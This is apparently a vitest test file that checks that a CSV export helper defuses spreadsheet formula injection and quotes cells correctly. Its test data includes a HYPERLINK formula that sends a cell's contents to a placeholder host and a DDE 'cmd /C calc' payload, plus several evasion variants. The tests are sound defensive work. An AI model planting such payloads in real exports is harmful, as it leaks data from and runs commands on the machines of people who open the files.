/**
 * CSV cells cannot smuggle formulas (lib/csv.ts, the one writer of every export): each form a
 * spreadsheet would run is defused with a `'`, plain text and real numbers are left as they are,
 * and RFC 4180 quoting stays right.
 */
import { describe, expect, it } from "vitest";
import { csvCell, csvRow } from "@/lib/csv";

/** [text cell, what is written]. */
const TEXT: [string, string][] = [
  ["=1+1", "'=1+1"],
  ["+1", "'+1"],
  ["-1", "'-1"],
  ["-12", "'-12"], // a text column: a title "-12" is text, defused like any other
  ["@SUM(A1:A2)", "'@SUM(A1:A2)"],
  ["\t=1", "'\t=1"],
  ["\r=1", '"\'\r=1"'],
  ["\tplain", "'\tplain"],
  [" =1", "' =1"],
  ["   +cmd", "'   +cmd"],
  ["\u00a0=1", "'\u00a0=1"],
  ["\u3000=1", "'\u3000=1"],
  ["\u200b=1", "'\u200b=1"],
  ["\u200d\u2060-1", "'\u200d\u2060-1"],
  ["\ufeff=1", "'\ufeff=1"],
  ["＝1", "'＝1"],
  ["＋1", "'＋1"],
  ["－1", "'－1"],
  ["＠x", "'＠x"],
  ["﹦1", "'﹦1"],
  ["−1", "'−1"],
  ['=HYPERLINK("http://x.example/?"&A1,"click")', '"\'=HYPERLINK(""http://x.example/?""&A1,""click"")"'],
  ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
  ["a;=1", "a;'=1"],
  ["a; =1", "a;' =1"],
  ["a;\u200b+1", "a;'\u200b+1"],
  ["a|=1", "a|'=1"],
  ["a;b;－1", "a;b;'－1"],
  ["=1;=2", "'=1;'=2"],
  ["a,=1", '"a,=1"'], // a comma needs only the quotes
  ["第一点;\n- 第二点", '"第一点;\n- 第二点"'], // a newline after a separator is not a cell start
  ["plain text", "plain text"],
  ["南京大学 2026-12-01", "南京大学 2026-12-01"],
  ["e-mail a@b.c", "e-mail a@b.c"],
  ["", ""],
  ['say "hi", then\r\nleave', '"say ""hi"", then\r\nleave"'],
  ["multi\nline", '"multi\nline"'],
];

describe("csvCell", () => {
  it.each(TEXT)("text %j", (value, written) => {
    expect(csvCell(value)).toBe(written);
  });

  it("writes numbers, booleans, dates and empty values as values, never prefixed", () => {
    expect(csvCell(-12)).toBe("-12");
    expect(csvCell(3)).toBe("3");
    expect(csvCell(false)).toBe("false");
    expect(csvCell(new Date("2026-12-01T08:00:00Z"))).toBe("2026-12-01T08:00:00.000Z");
    expect(csvCell(null)).toBe("");
    expect(csvCell(undefined)).toBe("");
  });

  it("joins a record with CRLF", () => {
    expect(csvRow(["=1", 2, "a,b", null])).toBe('\'=1,2,"a,b",\r\n');
  });
});
